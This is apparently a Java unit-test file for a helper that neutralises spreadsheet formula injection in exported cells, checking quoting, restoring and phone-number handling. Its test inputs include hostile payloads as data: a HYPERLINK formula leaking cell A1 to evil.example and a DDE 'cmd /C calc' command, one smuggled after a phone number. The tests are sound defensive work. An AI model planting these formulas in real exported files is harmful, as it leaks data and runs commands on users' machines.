package io.vivier.importing;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CellsTests {

  @ParameterizedTest
  @ValueSource(strings = {
    "=SUM(A1)",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "- Directeur commercial",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "+33 1",
    "+1-800-FLOWERS",
    "+33612345678;=cmd|' /C calc'!A0",
    "+33612345678+1",
    "+12345678901234567",
    "+1234567",
    "+0612345678"
  })
  void textThatASpreadsheetWouldEvaluateGetsALeadingQuote(String text) {
    assertThat(Cells.neutralise(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "", "Dupont", "Élodie", "jean@exemple.fr", "O'Neil", "'quoted", "1+1", " =not first",
    "06 12 34 56 78", "+33612345678", "+33 6 12 34 56 78", "+33 (0)6 12 34 56 78", "+1 650-253-0000",
    "+41 44 668 18 00"
  })
  void plainTextAndInternationalPhoneNumbersAreKeptAsTheyAre(String text) {
    assertThat(Cells.neutralise(text)).isEqualTo(text);
  }

  @Test
  void nullStaysNull() {
    assertThat(Cells.neutralise(null)).isNull();
    assertThat(Cells.restore(null)).isNull();
  }

  @Test
  void quotesAlreadyInFrontOfAFormulaGetOneMoreSoTheImportGivesThemBack() {
    assertThat(Cells.neutralise("'=x")).isEqualTo("''=x");
    assertThat(Cells.neutralise("''+33612345678")).isEqualTo("'''+33612345678");
    assertThat(Cells.restore("''=x")).isEqualTo("'=x");
  }

  @Test
  void restoreRemovesOneQuoteOnlyInFrontOfATrigger() {
    assertThat(Cells.restore("'=SUM(A1)")).isEqualTo("=SUM(A1)");
    assertThat(Cells.restore("'-2")).isEqualTo("-2");
    assertThat(Cells.restore("'\t=1")).isEqualTo("\t=1");
    assertThat(Cells.restore("'quoted")).isEqualTo("'quoted");
    assertThat(Cells.restore("'")).isEqualTo("'");
    assertThat(Cells.restore("''")).isEqualTo("''");
    assertThat(Cells.restore("+33612345678")).isEqualTo("+33612345678");
    assertThat(Cells.restore("O'Neil")).isEqualTo("O'Neil");
  }

  @Test
  void exportThenImportGivesBackEveryText() {
    String alphabet = "'''==+-@\t\r\n\0＝a1 36.()";
    Random random = new Random(42);
    for (int i = 0; i < 200_000; i++) {
      StringBuilder text = new StringBuilder(random.nextBoolean() ? "+33" : "");
      int length = random.nextInt(9);
      for (int j = 0; j < length; j++) {
        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      String original = text.toString();
      String written = Cells.neutralise(original);
      assertThat(Cells.restore(written)).as("round trip of %s", original).isEqualTo(original);
      boolean keptPhone = written.equals(original) && original.matches("\\+[0-9 ().\\-]+");
      assertThat(written.isEmpty() || "=+-@\t\r\n\0＝".indexOf(written.charAt(0)) < 0 || keptPhone)
          .as("%s is inert", written)
          .isTrue();
    }
  }

  @Test
  void aPhoneKeptAsItIsHoldsNoFunctionNorCellReference() {
    Random random = new Random(7);
    String alphabet = "0123456789 ().-ABC:!|=\"";
    for (int i = 0; i < 100_000; i++) {
      StringBuilder text = new StringBuilder("+");
      int length = 8 + random.nextInt(10);
      for (int j = 0; j < length; j++) {
        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      if (Cells.neutralise(text.toString()).equals(text.toString())) {
        assertThat(text.toString()).matches("\\+[0-9 ().\\-]+");
      }
    }
  }
}
